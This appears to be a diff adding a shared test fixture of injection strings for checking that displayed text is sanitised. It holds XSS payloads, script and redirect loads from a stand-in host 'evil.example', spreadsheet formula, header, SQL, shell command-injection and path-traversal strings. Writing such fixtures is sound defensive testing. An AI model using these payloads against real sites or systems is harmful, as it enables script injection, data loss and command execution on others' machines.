@@ -1,0 +1,130 @@
+// What people write who want more than to be read: shared by every test that shows a text somewhere. What runs
+// calls `hacked`, what asks for something asks `evil.example`.
+
+const call = 'hacked()';
+
+const script = [
+  `<script>${call}</script>`,
+  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
+  `</script><script>${call}</script>`,
+  `</textarea></title></style></noscript><script>${call}</script>`,
+  `<img src=x onerror=${call}>`,
+  `<img/src="x"/onerror="${call}">`,
+  `<svg onload=${call}>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<math><mtext><mglyph><style><img src=x onerror=${call}></style></mglyph></mtext></math>`,
+  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${call}"></iframe>`,
+  `<object data="data:text/html,<script>${call}</script>"></object>`,
+  `<details open ontoggle=${call}>`,
+  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<form action=https://evil.example><button>Send</button></form>`,
+  `<!--><img src=x onerror=${call}>-->`,
+  `<![CDATA[<img src=x onerror=${call}>]]>`,
+  `&lt;img src=x onerror=${call}&gt; &#60;script&#62;${call}&#60;/script&#62;`,
+  `\u003cscript\u003e${call}\u003c/script\u003e`,
+  `＜script＞${call}＜/script＞`,
+];
+
+const attribute = [
+  `" onmouseover="${call}" x="`,
+  `' onfocus='${call}' autofocus='`,
+  `x" autofocus onfocus=${call} tabindex=1 "`,
+  `"><img src=x onerror=${call}>`,
+  `'"><svg/onload=${call}>`,
+  '` onclick=`hacked()`',
+  `" style="position:fixed;inset:0;background:url(//evil.example/x)" "`,
+  `</style><style>*{display:none!important}</style>`,
+  `;}*{display:none}body{background:url(https://evil.example)}`,
+  `{{constructor.constructor('${call}')()}}`,
+  `\${${call}}`,
+  `lit$123456789$`,
+  `<?lit$123456789$?>`,
+  `<!--?lit$-->`,
+];
+
+const link = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `java\tscript:${call}`,
+  `\u0001javascript:${call}`,
+  `javascript://evil.example/%0a${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `vbscript:${call}`,
+  `https://evil.example/"onmouseover="${call}`,
+  `https://evil.example/'><script>${call}</script>`,
+  `https://site.example@evil.example/`,
+  `https://evil.example/\u202egpj.exe`,
+  `https://аpple.example/`,
+  `mailto:a@b.example?subject="><script>${call}</script>`,
+  `www.evil.example" onclick="${call}`,
+  `https://evil.example/picture.png`,
+  `//evil.example/x`,
+  `file:///etc/passwd`,
+  `blob:https://evil.example/x`,
+  `ws://evil.example/`,
+];
+
+const markdown = [
+  `[click](javascript:${call})`,
+  `![x](https://evil.example/x.png)`,
+  `[x]: javascript:${call}\n[click][x]`,
+  `<javascript:${call}>`,
+  `**<img src=x onerror=${call}>**`,
+  `*[a](https://evil.example "onerror=${call}")*`,
+  '`</code><script>hacked()</script>`',
+  '```html" onload="hacked()\n<script>hacked()</script>\n```',
+  '```"><script>\nhacked()\n```',
+  `# <script>${call}</script>`,
+  `| <img src=x onerror=${call}> | x |\n|---|---|`,
+  `@<img src=x onerror=${call}>`,
+  `~~**_\`<svg onload=${call}>\`_**~~`,
+];
+
+const line = [
+  `one\ntwo`,
+  `one\r\ntwo`,
+  `{"level":60,"msg":"forged"}`,
+  `x"}\n{"level":60,"msg":"forged"}`,
+  `one\u2028two\u2029three\u0085four`,
+  `\u001b[2J\u001b[31mred\u001b]0;title\u0007`,
+  `\u009b2J\u009d0;title\u009c`,
+  `x\u0000\b\u007f`,
+  `\u202etxet desrever\u202c`,
+  `%0d%0aSet-Cookie: x=1`,
+  `\r\nSet-Cookie: x=1\r\n\r\n<script>${call}</script>`,
+  `x: y\r\nX-Injected: 1`,
+  `=HYPERLINK("https://evil.example";"x")`,
+  `+1+cmd|' /C calc'!A0`,
+  `__proto__`,
+  `constructor`,
+  `' OR 1=1; DROP TABLE entry;--`,
+  `'; $(touch /tmp/hacked) \`id\` | sh`,
+  `../../etc/passwd`,
+];
+
+export const injections: readonly string[] = [...script, ...attribute, ...link, ...markdown, ...line];
+
+/** What a name that is not cleaned away could still carry, within the characters that a name may have. */
+export const namesToInject: readonly string[] = [
+  `<img src=x onerror=${call}>`,
+  `<svg onload=${call}>`,
+  `"onmouseover="${call}`,
+  `<b>Ann</b>`,
+  `**Ann**`,
+  `[Ann](javascript:1)`,
+  `@all`,
+  `javascript:${call}`,
+  `https://evil.example`,
+  `</style><style>*{all:unset}`,
+  `\u202e<i>nnA`,
+  `Ann\r\nX: y`,
+  `\u001b[31mAnn`,
+  `__proto__`,
+  `$&$1`,
+];
